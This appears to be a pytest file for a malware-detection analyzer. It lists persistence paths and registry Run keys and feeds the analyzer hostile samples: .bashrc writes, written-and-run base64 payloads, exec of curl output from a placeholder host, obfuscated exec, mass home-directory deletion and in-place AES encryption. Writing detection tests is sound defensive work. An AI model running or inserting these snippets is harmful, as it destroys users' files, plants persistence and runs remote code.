"""Programs in texts, written and run; files where programs start by themselves; names and texts that are spelled."""

from __future__ import annotations

import pytest

from bonded.facts import footholds
from bonded.facts.files import ERASED, WRITE
from bonded.facts.model import Call
from bonded.facts.value import CHARS, DECODED, DOWNLOADED, EMBEDDED, ENCRYPTED, FOUND
from tests.facts.programs import wheel_of


def calls(source: str) -> list[Call]:
    return [call for module in wheel_of({"sample/__init__.py": source}).modules for call in module.calls]


def labels(source: str, name: str) -> set[str]:
    return {label for call in calls(source) if call.name == name for one in call.arguments for label in one.labels}


@pytest.mark.parametrize(
    ("path", "starts"),
    [
        ("%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.vbs", True),
        ("…/Start Menu/Programs/Startup", True),
        ("~/.config/autostart/x.desktop", True),
        ("/Users/x/Library/LaunchAgents/x.plist", True),
        ("/etc/cron.d/x", True),
        ("/etc/systemd/system/x.service", True),
        ("/home/x/.bashrc", True),
        ("/home/x/.ssh/authorized_keys", True),
        ("C:\\Windows\\System32\\drivers\\etc\\hosts", True),
        ("/usr/lib/python3/site-packages/x.pth", True),
        ("~/.ipython/profile_default/startup/00.py", True),
        ("~/.config/fish/config.fish", True),
        (".git/hooks/pre-commit", True),
        ("~/.pip/pip.conf", True),
        ("~/.npmrc", True),
        ("~/.claude/settings.json", True),
        ("…/site-packages/requests/api.py", True),
        ("…/site-packages/requests/cacert.pem", False),
        ("~/.vimrc", True),
        ("/home/x/.config/nvim/init.lua", True),
        ("~/.config/environment.d/10-x.conf", True),
        ("~/.vscode/extensions/x.y-1.0.0", True),
        ("~/.cursor/extensions/x/extension.js", True),
        ("src/extensions/x.js", False),
        ("docs/environment.d.md", False),
        ("project/.npmrc", False),
        (".git/config.lock", False),
        ("/tmp/startup.log", False),
        ("docs/systemd.md", False),
        ("/home/x/.bashrc.d.bak/readme", False),
        ("", False),
    ],
)
def test_places_where_programs_start_by_themselves(path: str, starts: bool) -> None:
    assert bool(footholds.kind_of_path(path)) == starts


def test_keys_of_the_registry() -> None:
    assert footholds.is_run_key("Software\\Microsoft\\Windows\\CurrentVersion\\Run")
    assert footholds.is_run_key("Software\\Classes\\CLSID\\{0}\\InprocServer32")
    assert not footholds.is_run_key("Software\\Python\\PythonCore")
    assert not footholds.is_run_key("Software\\Classes\\.py")


@pytest.mark.parametrize(
    "source",
    [
        "open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
        "with open(os.path.expanduser('~') + '/.bashrc', mode='w') as f:\n    f.write('x')",
        "import shutil\nshutil.copy('x', os.path.join(os.environ['HOME'], '.bashrc'))",
        "from pathlib import Path\n(Path.home() / '.bashrc').write_text('x')",
        "from pathlib import Path\nwith (Path.home() / '.bashrc').open('a') as f:\n    f.write('x')",
        "def f():\n    p = os.path.join(os.getenv('HOME'), '.bashrc')\n    with open(p, 'a') as g:\n        g.write('x')\nf()",
    ],
)
def test_a_file_written_there_is_a_call(source: str) -> None:
    found = [call for call in calls(f"import os\n{source}\n") if call.name == WRITE]
    assert found
    assert any(".bashrc" in (one.text or one.shape) for call in found for one in call.arguments)


def test_reading_there_is_none() -> None:
    assert [
        one for one in calls("import os\nopen(os.path.expanduser('~/.bashrc')).read()\n") if one.name == WRITE
    ] == []


PAYLOAD = "import base64\\nexec(base64.b64decode('eCA9IDE='))\\n"


@pytest.mark.parametrize(
    "source",
    [
        f"with open('/tmp/.x.py', 'w') as f:\n    f.write(\"{PAYLOAD}\")\nos.system('python3 /tmp/.x.py')",
        f"from tempfile import NamedTemporaryFile as N\nn = N(delete=False)\nn.write(b\"{PAYLOAD}\")\nos.system(f'start {{n.name}}')",
        f"from pathlib import Path\nPath('/tmp/.x.py').write_text(\"{PAYLOAD}\")\nos.system('python3 /tmp/.x.py')",
        f"open('/tmp/.x.py', 'w').write(\"{PAYLOAD}\")\nimport subprocess\nsubprocess.Popen(['python3', '/tmp/.x.py'])",
    ],
)
def test_a_program_in_a_text_that_is_written_and_run_is_read(source: str) -> None:
    found = calls(f"import os\n{source}\n")
    assert any(EMBEDDED in one.labels for call in found if call.depth == 0 for one in call.arguments)
    inner = [call for call in found if call.name == "builtins.exec" and call.depth == 1]
    assert inner
    assert DECODED in inner[0].arguments[0].labels


def test_a_text_that_is_no_program_is_not() -> None:
    source = "import os\nopen('/tmp/x.txt', 'w').write('a plain text of some length')\nos.system('cat /tmp/x.txt')\n"
    assert EMBEDDED not in labels(source, "os.system")


def test_python_within_a_command_line_is_read() -> None:
    source = "import os\nos.system('python3 -c \"import base64; exec(base64.b64decode(b\\'eD0x\\'))\"')\n"
    assert [call.depth for call in calls(source) if call.name == "builtins.exec"] == [1]


def test_what_a_fetching_command_puts_out_was_downloaded() -> None:
    source = "import subprocess\nexec(subprocess.getoutput('curl -s https://files.example.invalid/x'))\n"
    assert DOWNLOADED in labels(source, "builtins.exec")


SPELLED = {
    "table": "a = list('abcdefghijklmnopqrstuvwxyz')\nexec(''.join(a[a.index(c) - 1] if c in a else c for c in 'jnqpsu pt jnqpsu pt'))",
    "codes": "exec(''.join(map(chr, [int(x) for x in open('y').read().split()])))",
    "picked": "import base64\nt = base64.b64decode(open('y').read())\nexec(''.join([y[0] for x in t for y in [('a', 1)] if x == y[1]]))",
}


@pytest.mark.parametrize("name", sorted(SPELLED))
def test_code_that_is_spelled_letter_by_letter(name: str) -> None:
    assert labels(f"{SPELLED[name]}\n", "builtins.exec") & {CHARS, DECODED}


def test_builtins_by_the_letters_of_their_own_texts() -> None:
    source = "x = getattr(__builtins__, oct.__str__()[-3] + hex.__repr__()[-4] + copyright.__str__()[4])(104)\n"
    found = [call for call in calls(source) if call.name == "builtins.getattr" and call.hidden]
    assert [call.arguments[0].text for call in found] == ["builtins.chr"]


def test_flags_of_the_standard_library_are_known() -> None:
    source = "import subprocess\nsubprocess.Popen(['x'], creationflags=subprocess.CREATE_NO_WINDOW | 0x200)\n"
    assert {one.text for call in calls(source) for one in call.arguments if one.name} == {str(0x08000200)}


HARMED = {
    "deleted": ("for one in Path.home().rglob('*'):\n    one.unlink()", ERASED),
    "expanded": ("for one in Path('~').expanduser().glob('*'):\n    one.unlink()", ERASED),
    "written over": ("for one in Path.home().rglob('*'):\n    one.write_text('x')", WRITE),
    "opened to be written": ("for one, _, _ in os.walk('/home'):\n    open(one + '/x', 'w')", WRITE),
}


@pytest.mark.parametrize("name", sorted(HARMED))
def test_what_is_done_to_files_that_were_looked_for(name: str) -> None:
    source, call = HARMED[name]
    assert FOUND in labels("import os\nfrom pathlib import Path\n" + source, call)


@pytest.mark.parametrize("verb", ["encrypt(x)", "encrypt_and_digest(x)[0]", "encryptor().update(x)"])
def test_what_goes_through_a_cipher(verb: str) -> None:
    source = f"from Crypto.Cipher import AES\nx = open(name, 'rb').read()\nopen(name, 'wb').write(AES.new(key).{verb})"
    assert ENCRYPTED in labels(source, WRITE)
